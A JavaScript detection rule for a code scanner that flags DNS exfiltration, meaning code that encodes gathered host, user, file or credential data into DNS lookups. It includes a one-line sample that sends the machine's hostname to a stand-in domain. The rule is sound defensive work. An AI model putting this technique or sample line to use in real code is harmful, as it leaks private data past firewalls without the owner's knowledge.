import { defineRule } from './defineRule.js';

export const dnsExfiltration = defineRule({
  id: 'dns-exfiltration',
  severity: 'high',
  message: 'It puts what it has gathered into names that it asks for.',
  why: 'Names carry data past every firewall.',
  match: {
    on: 'near',
    within: 600,
    all: [
      ['asks-dns'],
      ['names-user', 'names-host', 'reads-files', 'reads-environment', 'credential-paths', 'environment-dump'],
    ],
  },
  examples: {
    flags: ["require('dns').lookup(require('os').hostname() + '.x.example', () => {})"],
    passes: ["require('dns').lookup('a.example', () => {})"],
  },
});
